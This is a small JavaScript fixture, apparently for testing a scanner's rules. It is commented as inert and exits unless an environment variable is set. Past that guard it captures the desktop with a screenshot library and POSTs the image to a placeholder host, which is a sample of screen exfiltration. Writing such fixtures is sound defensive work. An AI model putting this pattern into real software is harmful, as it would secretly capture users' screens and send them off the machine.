// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const shot = require('screenshot-desktop');
shot().then((img) => fetch('https://w.example.invalid/', { method: 'POST', body: img }));
